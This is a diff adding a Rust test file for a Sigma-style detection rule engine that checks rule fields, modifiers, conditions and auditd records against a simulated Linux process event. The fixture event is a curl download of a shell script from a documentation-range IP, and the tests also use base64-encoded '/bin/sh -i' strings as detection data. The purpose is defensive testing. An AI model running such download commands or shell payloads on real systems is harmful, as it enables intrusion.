@@ -1,0 +1,274 @@
+//! Rules against events: log sources, every modifier of the format, what is refused.
+
+use super::*;
+use crate::model::process::{Ancestor, Completeness};
+use crate::model::session::Origin;
+use crate::model::{EventUid, Stamp};
+
+fn process<'p>(argv: &'p [&'p [u8]], ancestors: &'p [Ancestor<'p>]) -> Process<'p> {
+    Process {
+        uid: EventUid(7),
+        host: "web01",
+        stamp: Stamp::default(),
+        pid: Some(8),
+        ppid: Some(7),
+        exe: Some(b"/usr/bin/curl"),
+        comm: Some(b"curl"),
+        argv,
+        joined: None,
+        cwd: Some(b"/home/deploy/.cache"),
+        user: crate::model::process::Account {
+            id: Some(1101),
+            name: Some(b"deploy"),
+        },
+        effective_user: Default::default(),
+        group: Default::default(),
+        effective_group: Default::default(),
+        login_user: Default::default(),
+        session: Some(5),
+        origin: Origin::None,
+        ancestors,
+        tty: None,
+        keys: &[b"exec"],
+        labels: &[],
+        exit: Some(0),
+        completeness: Completeness::default(),
+    }
+}
+
+const ARGV: [&[u8]; 4] = [b"curl", b"-o", b"X", b"http://203.0.113.66:8000/Upd.sh"];
+
+fn rule(source: &str, detection: &str) -> String {
+    format!(
+        "title: t\nid: 11111111-2222-4333-8444-555555555555\nlogsource:\n    product: linux\n    {source}\n\
+         detection:\n{detection}\nlevel: high\ntags:\n    - attack.execution\n    - attack.t1059.004\n"
+    )
+}
+
+fn hits(source: &str, detection: &str) -> Vec<Behaviour> {
+    let mut builder = Builder::default();
+    let loaded = builder.add(&rule(source, detection));
+    assert_eq!(loaded.refused, [], "{detection}");
+    let parent = [Ancestor {
+        pid: 7,
+        exe: Some(b"/bin/bash"),
+        command: Some(b"-bash"),
+        started: None,
+    }];
+    let mut hits = Vec::new();
+    builder.build().process(&process(&ARGV, &parent), &mut hits);
+    hits
+}
+
+fn matches(lines: &[&str]) -> bool {
+    let lines: Vec<String> = lines.iter().map(|line| format!("    {line}")).collect();
+    !hits("category: process_creation", &lines.join("\n")).is_empty()
+}
+
+#[test]
+fn the_fields_of_a_program_start_are_those_of_the_table() {
+    for (field, value) in [
+        ("Image", "/usr/bin/curl"),
+        ("CommandLine", "curl -o X http://203.0.113.66:8000/Upd.sh"),
+        ("ParentImage", "/bin/bash"),
+        ("ParentCommandLine", "'-bash'"),
+        ("CurrentDirectory", "/home/deploy/.cache"),
+        ("User", "deploy"),
+        ("ProcessId", "8"),
+        ("ParentProcessId", "7"),
+        ("LogonId", "5"),
+    ] {
+        let is = format!("s:\n        {field}: {value}");
+        assert!(matches(&[&is, "condition: s"]), "{field}");
+        let other = format!("s:\n        {field}: other");
+        assert!(!matches(&[&other, "condition: s"]), "{field}");
+    }
+}
+
+/// A modifier, a value that it finds in the event, and one that it does not.
+#[test]
+fn every_modifier_of_the_format_is_understood() {
+    for (field, found, not) in [
+        ("CommandLine|contains", "'-o x http'", "'-O x ftp'"),
+        ("CommandLine|startswith", "CURL", "wget"),
+        ("CommandLine|endswith", "upd.sh", "upd"),
+        ("CommandLine|contains|cased", "Upd.sh", "upd.sh"),
+        (
+            "CommandLine|contains|all",
+            "['curl', 'Upd']",
+            "['curl', 'wget']",
+        ),
+        ("CommandLine|re", "'^curl\\s+-o'", "'^wget'"),
+        ("CommandLine|re|i", "'UPD\\.SH$'", "'UPD\\.PY$'"),
+        ("CommandLine|exists", "true", "false"),
+        ("NoSuchField|exists", "false", "true"),
+        ("ProcessId|lt", "9", "8"),
+        ("ProcessId|lte", "8", "7"),
+        ("ProcessId|gt", "7", "8"),
+        ("ProcessId|gte", "8", "9"),
+        ("CommandLine", "'curl*.sh'", "'curl?.sh'"),
+        ("CommandLine|windash|contains", "' -o '", "' -p '"),
+        ("ParentProcessId|fieldref", "ParentProcessId", "ProcessId"),
+        ("User", "['root', 'deploy']", "['root', 'bob']"),
+        ("NoSuchField", "null", "x"),
+    ] {
+        let with = |value: &str| format!("s:\n        {field}: {value}");
+        assert!(matches(&[&with(found), "condition: s"]), "{field}: {found}");
+        assert!(!matches(&[&with(not), "condition: s"]), "{field}: {not}");
+    }
+}
+
+#[test]
+fn what_is_encoded_is_found() {
+    let found = |argument: &'static [u8], field: &str, value: &str| {
+        let mut builder = Builder::default();
+        let text = format!("    s:\n        {field}: {value}\n    condition: s");
+        assert_eq!(
+            builder
+                .add(&rule("category: process_creation", &text))
+                .refused,
+            []
+        );
+        let mut hits = Vec::new();
+        let argv: [&[u8]; 2] = [b"echo", argument];
+        builder.build().process(&process(&argv, &[]), &mut hits);
+        !hits.is_empty()
+    };
+    // base64 of "/bin/sh", and of "x/bin/sh -i" where the text begins elsewhere.
+    assert!(found(
+        b"L2Jpbi9zaA==",
+        "CommandLine|base64|contains",
+        "/bin/sh"
+    ));
+    assert!(found(
+        b"eC9iaW4vc2ggLWk=",
+        "CommandLine|base64offset|contains",
+        "/bin/sh"
+    ));
+    assert!(!found(
+        b"eC9iaW4vbHMgLWk=",
+        "CommandLine|base64offset|contains",
+        "/bin/sh"
+    ));
+    assert!(found(
+        b"YwBhAGwAYwA=",
+        "CommandLine|wide|base64offset|contains",
+        "calc"
+    ));
+}
+
+#[test]
+fn addresses_are_held_against_networks() {
+    let mut builder = Builder::default();
+    let text = "    s:\n        SourceIp|cidr: 203.0.113.0/24\n    condition: s";
+    assert_eq!(
+        builder.add(&rule("category: process_creation", text)).rules,
+        1
+    );
+    let set = builder.build();
+    let from = |ip: [u8; 4]| {
+        let session = crate::model::session::Session {
+            src_ip: Some(ip.into()),
+            ..Default::default()
+        };
+        let mut hits = Vec::new();
+        let event = Process {
+            origin: Origin::Of(&session),
+            ..process(&ARGV, &[])
+        };
+        set.process(&event, &mut hits);
+        hits.len()
+    };
+    assert_eq!((from([203, 0, 113, 66]), from([10, 0, 0, 1])), (1, 0));
+}
+
+#[test]
+fn conditions_are_joined() {
+    let sel = [
+        "a:\n        Image|endswith: /curl",
+        "b:\n        User: root",
+        "b_2:\n        User: deploy",
+    ];
+    let with =
+        |condition: &str| matches(&[sel[0], sel[1], sel[2], &format!("condition: {condition}")]);
+    assert!(with("a and not b") && with("1 of b*") && with("a or b") && with("(a and b_2) or b"));
+    assert!(!with("all of them") && !with("a and b") && !with("not 1 of b*"));
+}
+
+#[test]
+fn records_of_auditd_are_looked_at_one_by_one() {
+    let source = "service: auditd";
+    let execve =
+        "    s:\n        type: EXECVE\n        a0: curl\n        a1: '-o'\n    condition: s";
+    assert_eq!(hits(source, execve).len(), 1);
+    let call = "    s:\n        type: SYSCALL\n        exe|endswith: /curl\n        key: exec\n        uid: 1101\n    condition: s";
+    assert_eq!(hits(source, call).len(), 1);
+    let both = "    s:\n        type: EXECVE\n        exe|endswith: /curl\n    condition: s";
+    assert_eq!(hits(source, both).len(), 0, "exe is of the other record");
+    let words = "    s:\n        - Upd.sh\n    condition: s";
+    assert_eq!(hits(source, words).len(), 1, "a word, in any field");
+}
+
+#[test]
+fn a_hit_tells_its_rule_and_the_fields_that_matched() {
+    let detection = "    s:\n        Image|endswith: /curl\n        User: deploy\n    condition: s";
+    let hits = hits("category: process_creation", detection);
+    let rule = &hits[0].rule;
+    assert_eq!((&*rule.title, rule.severity), ("t", Severity::High));
+    assert_eq!(&*rule.tags[1], "attack.t1059.004");
+    let fields: Vec<(&str, &str)> = hits[0].fields.iter().map(|(f, v)| (&**f, &**v)).collect();
+    assert!(
+        fields.contains(&("Image", "/usr/bin/curl")) && fields.contains(&("User", "deploy")),
+        "{fields:?}"
+    );
+}
+
+#[test]
+fn rules_for_other_sources_and_broken_ones_are_refused_by_name() {
+    let mut builder = Builder::default();
+    let detection = "    s:\n        a: b\n    condition: s";
+    for source in ["category: dns_query", "service: sshd", "definition: x"] {
+        let loaded = builder.add(&rule(source, detection));
+        assert_eq!((loaded.rules, &*loaded.refused[0].0), (0, "t"), "{source}");
+    }
+    let windows = rule("category: process_creation", detection).replace("linux", "windows");
+    assert!(builder.add(&windows).refused[0].1.contains("windows"));
+    for broken in [
+        "title: [",
+        "title: x\n",
+        &rule(
+            "category: process_creation",
+            "    s:\n        a: b\n    condition: nope",
+        ),
+    ] {
+        let loaded = builder.add(broken);
+        assert_eq!(loaded.rules, 0, "{broken}");
+    }
+    assert!(builder.build().is_empty());
+}
+
+#[test]
+fn the_pack_is_taken_whole_and_tells_its_techniques() {
+    let mut builder = Builder::default();
+    let mut ids = std::collections::BTreeSet::new();
+    for (name, text) in pack::PACK {
+        let loaded = builder.add(text);
+        assert!(
+            loaded.refused.is_empty() && loaded.rules > 0,
+            "{name}: {loaded:?}"
+        );
+    }
+    let set = builder.build();
+    assert!(set.len() >= 20);
+    for rules in [&set.starts, &set.files, &set.network, &set.auditd] {
+        for rule in &rules.told {
+            assert!(ids.insert(rule.id.clone()), "{} twice", rule.id);
+            let has = |prefix: &str| rule.tags.iter().any(|tag| tag.starts_with(prefix));
+            assert!(
+                has("attack.t1") && !rule.description.is_empty(),
+                "{}",
+                rule.title
+            );
+        }
+    }
+}
